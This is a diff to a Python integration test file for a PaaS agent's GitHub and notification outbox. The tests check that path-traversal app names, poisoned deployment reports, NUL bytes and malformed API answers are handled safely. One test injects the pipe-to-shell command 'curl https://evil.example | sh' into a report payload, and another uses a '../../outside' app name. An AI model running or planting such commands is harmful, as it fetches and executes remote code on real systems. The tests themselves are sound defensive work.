@@ -19,33 +19,10 @@ from paas.db import session_scope
 from paas.models import App, Deployment, Job, JobState, Notice, NotifyTarget
 from paas.settings import Settings
 from tests.integration.github_standin import PUSH, GitHubStandIn, sequence
+from tests.unit.telling import TOKEN, Sent
 
-TOKEN = "github_pat_" + "c4n4ry" * 8
 COMMIT = "b" * 40
 URL = "json://127.0.0.1:9/hook"
-
-
-class Sent:
-    def __init__(self) -> None:
-        self.messages: list[tuple[str, str, str]] = []
-
-    def __call__(self, url: str, title: str, body: str, kind: str) -> str:
-        self.messages.append((url, title, body))
-        return ""
-
-
-@pytest.fixture
-def github() -> Any:
-    standin = GitHubStandIn(token=TOKEN, repo="octo/shop").start()
-    yield standin
-    standin.stop()
-
-
-@pytest.fixture
-def tell(settings: Settings, engine: Engine, github: GitHubStandIn) -> tuple[Teller, Sent]:
-    sent = Sent()
-    tuned = settings.model_copy(update={"github_api_url": github.url, "github_timeout": 2.0})
-    return Teller(tuned, engine, Keyring(settings.keys_dir, private=True), send_notification=sent), sent
 
 
 def _app(engine: Engine, settings: Settings, *, name: str = "shop", token: bool = True) -> App:
@@ -89,12 +66,12 @@ def _drain(teller: Teller, channel: str = "github") -> None:
 
 
 def test_an_app_named_to_climb_out_of_the_logs_is_told_nothing_and_nothing_is_read(
-    tell: tuple[Teller, Sent], engine: Engine, settings: Settings
+    teller: tuple[Teller, Sent], engine: Engine, settings: Settings
 ) -> None:
     """Web renames an app ``../../outside``: a failure's notification would
     carry the last lines of ``<logs>/../../outside/v1.log`` (any file root can
     read, named vN.log), and the GitHub log line would be appended to it."""
-    teller, sent = tell
+    tell, sent = teller
     settings.logs_dir.mkdir(parents=True, exist_ok=True)
     outside = (settings.logs_dir / ".." / ".." / "outside").resolve()  # where the name leads
     outside.mkdir(parents=True)
@@ -110,23 +87,23 @@ def test_an_app_named_to_climb_out_of_the_logs_is_told_nothing_and_nothing_is_re
         assert row is not None
         row.name = "../../outside"
         s.add(row)
-    teller.finished(job, dep.id, Ended(JobState.failed, "build: failed"))
-    _drain(teller, "notify")
-    assert all("private" not in body for _url, _title, body in sent.messages)
+    tell.finished(job, dep.id, Ended(JobState.failed, "build: failed"))
+    _drain(tell, "notify")
+    assert all("private" not in body for body in sent.bodies)
     assert sent.messages == []
     assert (outside / "v1.log").read_text() == "root's private line\n"
     assert oct((outside / "v1.log").stat().st_mode & 0o777) == "0o600"
 
 
 def test_a_poisoned_report_never_reaches_github(
-    tell: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
+    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
 ) -> None:
     """Web rewrites a queued report: its deployment's payload (what a
     workflow listening for deployments reads) and ref are not the agent's."""
-    teller, _sent = tell
+    tell, _sent = teller
     app = _app(engine, settings)
     _job(engine, app)
-    teller.scan()
+    tell.scan()
     with session_scope(engine) as s:
         notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
         ops = [dict(op) for op in notice.payload["ops"]]
@@ -135,7 +112,7 @@ def test_a_poisoned_report_never_reaches_github(
                 op["payload"] = {"paas_job": notice.job_id, "script": "curl https://evil.example | sh"}
         notice.payload = {**notice.payload, "ops": ops}
         s.add(notice)
-    teller.send_due("github")
+    tell.send_due("github")
     assert github.calls == []
     with Session(engine) as s:
         notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
@@ -143,64 +120,64 @@ def test_a_poisoned_report_never_reaches_github(
 
 
 def test_a_value_a_notice_cannot_carry_fails_that_notice_alone(
-    tell: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
+    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
 ) -> None:
     """A release's error holding a NUL (a build printed one): the report
     and the notification that would carry it are written failed, naming the
     field, as the check before sending would refuse them; nothing else is
     lost, and the outbox sends on."""
-    teller, sent = tell
+    tell, sent = teller
     app = _app(engine, settings)
     job = _job(engine, app)
-    teller.scan()
+    tell.scan()
     with session_scope(engine) as s:
         dep = Deployment(app_id=app.id or 0, version=1, commit=COMMIT, job_id=job.id, error="build: a\0b")
         s.add(dep)
-    teller.finished(job, dep.id, Ended(JobState.failed, "build: a\0b"))
+    tell.finished(job, dep.id, Ended(JobState.failed, "build: a\0b"))
     with Session(engine) as s:
         ended = s.exec(select(Notice).where(Notice.channel == "github", Notice.event == "ended")).one()
         told = s.exec(select(Notice).where(Notice.channel == "notify")).one()
     assert ended.state == "failed" and "description" in ended.last_error, ended.last_error
     assert told.state == "failed" and "body" in told.last_error, told.last_error
-    _drain(teller)
+    _drain(tell)
     assert sequence(github.calls) == PUSH[:3]  # the queued report went out, the failed one never
     assert sent.messages == []
 
 
 def test_an_answer_github_accepted_but_that_does_not_parse_is_not_sent_again(
-    tell: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
+    teller: tuple[Teller, Sent], github: GitHubStandIn, engine: Engine, settings: Settings
 ) -> None:
     """A GitHub (or a proxy) answering 201 with less than its schema says:
     each call is made once, the whole push is reported, in order."""
-    teller, _sent = tell
+    tell, _sent = teller
     github.short_answers = True
     app = _app(engine, settings)
     job = _job(engine, app)
-    teller.scan()
+    tell.scan()
     with session_scope(engine) as s:
         dep = Deployment(app_id=app.id or 0, version=1, commit=COMMIT, trigger="push", job_id=job.id)
         s.add(dep)
-    teller.started(job, dep.id or 0)
-    teller.finished(job, dep.id, Ended(JobState.done))
+    tell.started(job, dep.id or 0)
+    tell.finished(job, dep.id, Ended(JobState.done))
     for _ in range(5):  # what a busy agent does: several rounds, one a second or faster
-        teller.send_due("github")
-    _drain(teller)
+        tell.send_due("github")
+    _drain(tell)
     assert sequence(github.calls) == PUSH
     with Session(engine) as s:
         assert {n.state for n in s.exec(select(Notice).where(Notice.channel == "github"))} == {"sent"}
 
 
 def test_an_unforeseen_failure_waits_its_turn_rather_than_looping(
-    tell: tuple[Teller, Sent],
+    teller: tuple[Teller, Sent],
     github: GitHubStandIn,
     engine: Engine,
     settings: Settings,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    teller, _sent = tell
+    tell, _sent = teller
     app = _app(engine, settings)
     _job(engine, app)
-    teller.scan()
+    tell.scan()
     from agent.tell import github
 
     calls: list[str] = []
@@ -211,7 +188,7 @@ def test_an_unforeseen_failure_waits_its_turn_rather_than_looping(
 
     monkeypatch.setattr(github.GitHubClient, "commit_status", broken)
     for _ in range(5):
-        teller.send_due("github")
+        tell.send_due("github")
     assert calls == ["status"]
     with Session(engine) as s:
         notice = s.exec(select(Notice).where(Notice.channel == "github")).one()
